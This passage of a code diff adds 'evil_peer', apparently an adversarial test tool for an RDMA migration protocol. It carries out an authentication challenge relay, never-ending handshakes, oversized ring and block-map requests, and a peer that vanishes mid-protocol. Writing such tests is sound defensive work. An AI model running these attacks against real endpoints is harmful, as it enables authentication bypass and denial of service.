+		pd_encode_accept(&acc, accb, sizeof(accb)); /* nonce all zero */
+	}
+	if (pd_decode_accept(accb, PD_ACCEPT_LEN, &acc, &e)) {
+		code = result(2, "variant=%s setup=\"%s\"", variant, quoted(e.msg, q1, sizeof(q1)));
+		goto out;
+	}
+	src.w.rx_size = acc.ctrl_msg_max < 65536 ? acc.ctrl_msg_max : 65536;
+	rc = fab_accept(src.fc, &caps, accb, acc_len, src_pre_accept, &src);
+	if (!rc)
+		rc = fab_wait_established(src.fc, rd_deadline(timeout_ms));
+	if (rc) {
+		code = result(2, "variant=%s setup=\"accepting the source: %s\"", variant,
+			      quoted(src.fc->err.msg, q1, sizeof(q1)));
+		goto out;
+	}
+	src.w.credits = req.ctrl_depth;
+	if (version == 1) {
+		Rdmig__AuthChallenge ch = RDMIG__AUTH_CHALLENGE__INIT;
+		static const uint8_t zero[V1_NONCE_LEN];
+
+		/* Version 1's challenge frame: the one the real destination
+		 * would have had before its ESTABLISHED, all zero. */
+		ch.nonce.data = (uint8_t *)zero;
+		ch.nonce.len = sizeof(zero);
+		rc = send_msg(&src, CT_AUTH_CHALLENGE, &ch.base, -1);
+		if (rc) {
+			code = result(2, "variant=%s setup=\"cannot challenge the source\"", variant);
+			goto out;
+		}
+	}
+	rc = collect_answer(&src, &ans);
+	if (rc) {
+		code = result(1, "variant=%s proto=%u answer=none source-said=\"%s\"", variant,
+			      version, quoted(src.said[0] ? src.said : "nothing (it disconnected)",
+					      q1, sizeof(q1)));
+		goto out;
+	}
+	note("collected the source's challenge and answer (%zu + %zu bytes)", ans.len[0],
+	     ans.len[1]);
+	if (!o->variant) {
+		rc = dial(&dst, o->host, o->port, reqb, PD_REQUEST_LEN, 16,
+			  req.ctrl_msg_max < 65536 ? req.ctrl_msg_max : 65536, false,
+			  rd_deadline(timeout_ms));
+		if (rc) {
+			code = result(1, "variant=%s proto=%u answer=obtained dest=\"%s\"", variant,
+				      version, quoted(rc == -ECONNREFUSED ? reject_reason(&dst) :
+						      dst.err.msg, q1, sizeof(q1)));
+			goto out;
+		}
+	}
+	if (!pd_decode_accept(dst.priv, dst.priv_len, &acc, &e))
+		dst.w.credits = acc.ctrl_depth;
+	rc = replay(&dst, o, &ans, &dest_answered, &base);
+	if (rc)
+		code = result(0, "variant=%s proto=%u answer=obtained dest-answered=%s "
+			      "block-map-resp=yes base=0x%" PRIx64, variant, version,
+			      dest_answered ? "yes" : "no", base);
+	else
+		code = result(1, "variant=%s proto=%u answer=obtained dest-answered=%s "
+			      "block-map-resp=no dest-said=\"%s\" source-said=\"%s\"", variant,
+			      version, dest_answered ? "yes" : "no",
+			      quoted(dst.said[0] ? dst.said : dst.closed ? "nothing (it hung up)" :
+				     dst.err.msg, q1, sizeof(q1)),
+			      quoted(src.said, q2, sizeof(q2)));
+out:
+	peer_close(&dst);
+	peer_close(&src);
+	fab_listener_destroy(l);
+	return code;
+}
+
+/* ---- hold: handshakes that never end -------------------------------------------------- */
+
+struct held {
+	struct peer p;
+	int64_t t0, end;        /* connected; dropped (0: still open) */
+	bool busy, failed;      /* refused at connect */
+	char why[200];
+};
+
+static int hold(const struct opts *o)
+{
+	static struct held h[HOLD_MAX];
+	uint8_t req[PD_REQUEST_LEN];
+	struct pd_accept acc;
+	char drops[HOLD_MAX * 12] = "", q[1200];
+	int64_t start, last_ka = 0, t_end;
+	int i, rc, open = 0, busy = 0, failed = 0, held_on = 0;
+	int64_t max_drop = 0;
+	size_t dl = 0;
+
+	if (o->n < 1 || o->n > HOLD_MAX)
+		return result(2, "n=%d (1..%d)", o->n, HOLD_MAX);
+	start = rd_now_ms();
+	t_end = start + (int64_t)o->seconds * 1000;
+	for (i = 0; i < o->n; i++) {
+		rc = dial_source(&h[i].p, o, PD_CAP_AUTH, 8, 4096, 8, 4096, req, &acc);
+		h[i].t0 = rd_now_ms();
+		if (rc == -ECONNREFUSED) {
+			h[i].busy = true;
+			snprintf(h[i].why, sizeof(h[i].why), "%s", reject_reason(&h[i].p));
+			note("connection %d: refused at connect (%s)", i + 1, h[i].why);
+			busy++;
+		} else if (rc) {
+			h[i].failed = true;
+			snprintf(h[i].why, sizeof(h[i].why), "%s", h[i].p.err.msg);
+			note("connection %d: failed: %s", i + 1, h[i].why);
+			failed++;
+		} else {
+			note("connection %d: open (protocol %u), never authenticating", i + 1,
+			     acc.version);
+			open++;
+		}
+	}
+	note("all connections made: %d open, %d refused busy, %d failed", open, busy, failed);
+	while (rd_now_ms() < t_end) {
+		int64_t now = rd_now_ms();
+		bool ka = now - last_ka >= KEEPALIVE_MS, any = false;
+
+		for (i = 0; i < o->n; i++) {
+			struct held *c = &h[i];
+			struct frame f;
+
+			if (c->busy || c->failed || c->end)
+				continue;
+			while ((rc = pump(&c->p, &f)) > 0) {
+				if (f.h.type == CT_ERROR)
+					snprintf(c->why, sizeof(c->why), "%s", c->p.said);
+				ctrl_msg_free(f.m);
+				if (f.h.type == CT_ERROR)
+					break;
+			}
+			if (rc < 0 || c->p.said[0]) {
+				c->end = rd_now_ms();
+				note("connection %d: dropped after %" PRId64 " ms: %s", i + 1,
+				     c->end - c->t0, c->why[0] ? c->why : "disconnected");
+				continue;
+			}
+			any = true;
+			/* A keepalive only with a credit to spare, as rdmig(7)
+			 * asks: the point is to look alive, not to break. */
+			if (ka && c->p.w.credits >= 2)
+				send_msg(&c->p, CT_KEEPALIVE, NULL, -1);
+		}
+		if (ka)
+			last_ka = now;
+		if (!any)
+			break;
+		usleep(2000);
+	}
+	for (i = 0; i < o->n; i++) {
+		if (h[i].busy || h[i].failed)
+			continue;
+		if (!h[i].end) {
+			held_on++;
+			note("connection %d: still open after %d s", i + 1, o->seconds);
+			dl += (size_t)snprintf(drops + dl, sizeof(drops) - dl, "%sheld", dl ? "," : "");
+		} else {
+			int64_t d = h[i].end - h[i].t0;
+
+			max_drop = d > max_drop ? d : max_drop;
+			dl += (size_t)snprintf(drops + dl, sizeof(drops) - dl, "%s%" PRId64,
+					       dl ? "," : "", d);
+		}
+		peer_close(&h[i].p);
+	}
+	for (i = 0; i < o->n; i++)
+		if (h[i].busy || h[i].failed)
+			peer_close(&h[i].p);
+	/* The destination's words: a drop's reason first, else a refusal's. */
+	for (i = 0; i < o->n && !(h[i].end && h[i].why[0]); i++)
+		;
+	if (i == o->n)
+		for (i = 0; i < o->n && !h[i].why[0]; i++)
+			;
+	return result(held_on ? 0 : 1, "n=%d open=%d busy=%d failed=%d held=%d drop-ms=%s "
+		      "max-drop-ms=%" PRId64 " first-reason=\"%s\"", o->n, open, busy, failed,
+		      held_on, drops[0] ? drops : "-", max_drop,
+		      quoted(i < o->n ? h[i].why : "", q, sizeof(q)));
+}
+
+/* ---- rings: the largest ring the protocol allows ---------------------------------- */
+
+static int rings(const struct opts *o)
+{
+	struct peer p;
+	uint8_t req[PD_REQUEST_LEN];
+	struct pd_accept acc;
+	char q[1200];
+	int64_t t0, last_ka = 0;
+	int rc, sent = 0;
+
+	memset(&p, 0, sizeof(p));
+	/* We announce depth x msg_max but post small buffers: only the
+	 * destination's side of the bargain is being tested. */
+	rc = dial_source(&p, o, PD_CAP_AUTH, o->depth, (uint32_t)o->msg_max,
+			 o->depth < NRX_MAX ? o->depth : NRX_MAX, 4096, req, &acc);
+	if (rc) {
+		peer_close(&p);
+		return result(1, "depth=%u msg-max=%" PRIu64 " dest=\"%s\"", o->depth, o->msg_max,
+			      quoted(rc == -ECONNREFUSED ? reject_reason(&p) : p.err.msg, q,
+				     sizeof(q)));
+	}
+	note("ring of %u x %" PRIu64 " bytes accepted (protocol %u; the destination's is %u x "
+	     "%u)", o->depth, o->msg_max, acc.version, acc.ctrl_depth, acc.ctrl_msg_max);
+	t0 = rd_now_ms();
+	while (rd_now_ms() - t0 < o->hold_ms) {
+		struct frame f;
+		int64_t now = rd_now_ms();
+
+		while ((rc = pump(&p, &f)) > 0)
+			ctrl_msg_free(f.m);
+		if (rc < 0 || p.said[0])
+			break;
+		/* A burst first: the destination returns credits (a frame from
+		 * its send ring) once half its receive ring was re-posted. */
+		while (p.w.credits >= 2 && (sent < (int)acc.ctrl_depth / 2 + 2 ||
+					    now - last_ka >= KEEPALIVE_MS)) {
+			if (send_msg(&p, CT_KEEPALIVE, NULL, -1))
+				break;
+			sent++;
+			last_ka = now;
+		}
+		usleep(2000);
+	}
+	if (rd_now_ms() - t0 < o->hold_ms) {
+		rc = result(1, "depth=%u msg-max=%" PRIu64 " keepalives=%d frames-from-dest=%" PRIu64
+			    " dropped-after-ms=%" PRId64 " dest-said=\"%s\"", o->depth, o->msg_max,
+			    sent, p.w.frames_in, rd_now_ms() - t0,
+			    quoted(p.said[0] ? p.said : "nothing", q, sizeof(q)));
+	} else {
+		rc = result(p.w.frames_in ? 0 : 1, "depth=%u msg-max=%" PRIu64 " keepalives=%d "
+			    "frames-from-dest=%" PRIu64 " held-ms=%d", o->depth, o->msg_max, sent,
+			    p.w.frames_in, o->hold_ms);
+	}
+	peer_close(&p);
+	return rc;
+}
+
+/* ---- bigmap: an authenticated source asking too much ------------------------------ */
+
+static int bigmap(const struct opts *o)
+{
+	struct peer p;
+	uint8_t req[PD_REQUEST_LEN];
+	struct pd_accept acc;
+	struct frame f;
+	char q[1200];
+	uint64_t base;
+	int rc;
+
+	memset(&p, 0, sizeof(p));
+	rc = dial_source(&p, o, PD_CAP_AUTH | (o->pin_all ? PD_CAP_PIN_ALL : 0), 8, 65536, 8,
+			 65536, req, &acc);
+	if (!rc && (acc.caps & PD_CAP_AUTH))
+		rc = authenticate(&p, o, acc.version, req);
+	if (!rc)
+		rc = send_block_map(&p, o, -1);
+	if (!rc)
+		rc = expect(&p, CT_BLOCK_MAP_RESP, &f, rd_deadline(timeout_ms));
+	if (rc) {
+		rc = result(1, "size=%" PRIu64 " pin-all=%s block-map-resp=no dest-said=\"%s\"",
+			    o->size, o->pin_all ? "yes" : "no",
+			    quoted(p.said[0] ? p.said : p.err.msg[0] ? p.err.msg : "nothing", q,
+				   sizeof(q)));
+		peer_close(&p);
+		return rc;
+	}
+	base = resp_base(&f);
+	ctrl_msg_free(f.m);
+	peer_close(&p);
+	return result(base ? 0 : 1, "size=%" PRIu64 " pin-all=%s block-map-resp=yes base=0x%"
+		      PRIx64, o->size, o->pin_all ? "yes" : "no", base);
+}
+
+/* ---- vanish: complete, then never take the confirmation ---------------------------- */
+
+/* Waits for @type; a credit or keepalive in between gets its buffer back, so
+ * exactly as many receives stay posted as before. */
+static int expect_reposting(struct peer *p, unsigned type, struct frame *f)
+{
+	int64_t deadline = rd_deadline(timeout_ms);
+	int rc;
+
+	for (;;) {
+		rc = next_frame(p, f, deadline);
+		if (rc)
+			return rc;
+		if (f->h.type == type)
+			return 0;
+		ctrl_msg_free(f->m);
+		if (f->h.type == CT_ERROR)
+			return -ECONNABORTED;
+		if (!post_rx(&p->w, f->slot))
+			p->w.to_return++;
+	}
+}
+
+static int vanish(const struct opts *o)
+{
+	Rdmig__IterEnd ie = RDMIG__ITER_END__INIT;
+	Rdmig__Complete c = RDMIG__COMPLETE__INIT;
+	struct peer p;
+	uint8_t req[PD_REQUEST_LEN];
+	struct pd_accept acc;
+	struct frame f;
+	char q[1200];
+	int64_t t_gone, deadline;
+	int rc;
+
+	memset(&p, 0, sizeof(p));
+	/* Depth 2 announced, one buffer posted: after ITER_ACK none is, so
+	 * the COMPLETE_ACK finds no receive (RNR) even before the QP goes. */
+	rc = dial_source(&p, o, 0, 2, 4096, 1, 4096, req, &acc);
+	p.w.repost = false;
+	if (!rc)
+		rc = send_block_map(&p, o, -1);
+	if (!rc)
+		rc = expect_reposting(&p, CT_BLOCK_MAP_RESP, &f);
+	if (rc)
+		goto refused;
+	ctrl_msg_free(f.m);
+	rc = post_rx(&p.w, f.slot);
+	if (rc)
+		goto refused;
+	p.w.to_return++;
+	ie.iteration = 1;
+	rc = send_msg(&p, CT_ITER_END, &ie.base, -1);
+	if (!rc)
+		rc = expect_reposting(&p, CT_ITER_ACK, &f);
+	if (rc)
+		goto refused;
+	ctrl_msg_free(f.m);
+	c.iteration = 1;
+	/* One credit claimed that was never re-posted, so the destination
+	 * has the two it needs to answer. */
+	rc = send_msg(&p, CT_COMPLETE, &c.base, 1);
+	if (rc)
+		goto refused;
+	drain_tx(&p, rd_deadline(timeout_ms));
+	if (p.closed || !tx_idle(&p.w))
+		goto refused;
+	/* Gone without a DREQ: the cm_id stays, the QP does not. */
+	ibv_destroy_qp(p.qp);
+	p.qp = NULL;
+	t_gone = rd_now_ms();
+	note("COMPLETE delivered, QP destroyed; waiting for the destination to give up");
+	deadline = rd_deadline(timeout_ms * 3);
+	while (!p.closed && !rd_expired(deadline)) {
+		cm_check(&p);
+		usleep(5000);
+	}
+	rc = result(0, "complete=delivered qp=destroyed dest-gave-up-ms=%" PRId64,
+		    p.closed ? rd_now_ms() - t_gone : (int64_t)-1);
+	peer_close(&p);
+	return rc;
+refused:
+	rc = result(1, "complete=not-delivered dest-said=\"%s\"",
+		    quoted(p.said[0] ? p.said : p.err.msg[0] ? p.err.msg : "nothing", q,
+			   sizeof(q)));
+	peer_close(&p);
+	return rc;
+}
+
+/* ---- command line ------------------------------------------------------------------ */
+
+static int usage(void)
+{
+	fprintf(stderr, "usage: evil_peer harvest HOST:PORT --variant zero|relay [--listen HOST]\n"
+		"       evil_peer hold HOST:PORT N SECONDS\n"
+		"       evil_peer rings HOST:PORT [--depth N] [--msg-max BYTES] [--hold-ms MS]\n"
+		"       evil_peer bigmap HOST:PORT --key FILE [--size BYTES] [--pin-all]\n"
+		"       evil_peer vanish HOST:PORT [--size BYTES]\n"
+		"  common: [--timeout MS] [--proto 1|2|auto] [--name BLOCK] [--chunk-shift N]\n");
+	return 2;
+}
+
+static int read_key(struct opts *o)
+{
+	int fd = open(o->key_path, O_RDONLY | O_CLOEXEC);
+	ssize_t n = fd < 0 ? -1 : read(fd, o->key, sizeof(o->key));
+
+	if (fd >= 0)
+		close(fd);
+	if (n < AUTH_KEY_MIN) {
+		fprintf(stderr, "evil_peer: cannot read a key from %s\n", o->key_path);
+		return -1;
+	}
+	o->key_len = (size_t)n;
+	return 0;
+}
+
+static int split_addr(struct opts *o, char *s)
+{
+	char *colon = strrchr(s, ':');
+
+	if (!colon || colon == s)
+		return -1;
+	*colon = '\0';
+	o->host = s;
+	o->port = colon + 1;
+	if (*o->host == '[' && o->host[strlen(o->host) - 1] == ']') {
+		o->host++;
+		s[strlen(s) - 1] = '\0';
+	}
+	return 0;
+}
+
+static int parse(struct opts *o, int argc, char **argv)
+{
+	int i, pos = 0;
+
+	if (argc < 3)
+		return -1;
+	o->mode = argv[1];
+	if (split_addr(o, argv[2]))
+		return -1;
+	for (i = 3; i < argc; i++) {
+		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
+
+		if (!strcmp(a, "--variant") && v) {
+			if (strcmp(v, "zero") && strcmp(v, "relay"))
+				return -1;
+			o->variant = !strcmp(argv[++i], "relay");
+		} else if (!strcmp(a, "--proto") && v) {
+			o->proto = !strcmp(v, "auto") ? 0 : atoi(v);
+			if (strcmp(argv[++i], "auto") && o->proto != 1 && o->proto != 2)
+				return -1;
+		} else if (!strcmp(a, "--listen") && v) {
+			o->lhost = argv[++i];
+		} else if (!strcmp(a, "--timeout") && v) {
+			timeout_ms = atoi(argv[++i]);
+		} else if (!strcmp(a, "--key") && v) {
+			o->key_path = argv[++i];
+		} else if (!strcmp(a, "--size") && v) {
+			o->size = strtoull(argv[++i], NULL, 0);
+		} else if (!strcmp(a, "--msg-max") && v) {
+			o->msg_max = strtoull(argv[++i], NULL, 0);
+		} else if (!strcmp(a, "--depth") && v) {
+			o->depth = (uint32_t)atoi(argv[++i]);
+		} else if (!strcmp(a, "--hold-ms") && v) {
+			o->hold_ms = atoi(argv[++i]);
+		} else if (!strcmp(a, "--name") && v) {
+			o->name = argv[++i];
+		} else if (!strcmp(a, "--chunk-shift") && v) {
+			o->chunk_shift = (uint32_t)atoi(argv[++i]);
+		} else if (!strcmp(a, "--pin-all")) {
+			o->pin_all = 1;
+		} else if (a[0] != '-' && pos < 2) {
+			if (pos++ == 0)
+				o->n = atoi(a);
+			else
+				o->seconds = atoi(a);
+		} else {
+			return -1;
+		}
+	}
+	if (!o->lhost)
+		o->lhost = o->host;
+	return timeout_ms >= 100 ? 0 : -1;
+}
+
+int main(int argc, char **argv)
+{
+	struct opts o = { .size = 1u << 20, .depth = 64, .msg_max = 16u << 20, .hold_ms = 3000,
+			  .name = "ram", .chunk_shift = 20 };
+	unsigned bound;
+
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (parse(&o, argc, argv))
+		return usage();
+	mode_name = o.mode;
+	if (sodium_init() < 0) {
+		fprintf(stderr, "evil_peer: sodium_init failed\n");
+		return 2;
+	}
+	signal(SIGPIPE, SIG_IGN);
+	signal(SIGALRM, on_alarm);
+	if (!strcmp(o.mode, "harvest")) {
+		bound = (unsigned)(timeout_ms / 1000) * 6 + 10;
+		alarm(bound);
+		return harvest(&o);
+	}
+	if (!strcmp(o.mode, "hold")) {
+		if (o.seconds < 1)
+			return usage();
+		alarm((unsigned)o.seconds + (unsigned)(timeout_ms / 1000) * 2 + 10);
+		return hold(&o);
+	}
+	if (!strcmp(o.mode, "rings")) {
+		alarm((unsigned)(o.hold_ms / 1000) + (unsigned)(timeout_ms / 1000) * 2 + 10);
+		return rings(&o);
+	}
+	if (!strcmp(o.mode, "bigmap")) {
+		if (!o.key_path || read_key(&o))
+			return usage();
+		alarm((unsigned)(timeout_ms / 1000) * 4 + 10);
+		return bigmap(&o);
+	}
+	if (!strcmp(o.mode, "vanish")) {
+		alarm((unsigned)(timeout_ms / 1000) * 5 + 10);
+		return vanish(&o);
+	}
+	return usage();
+}
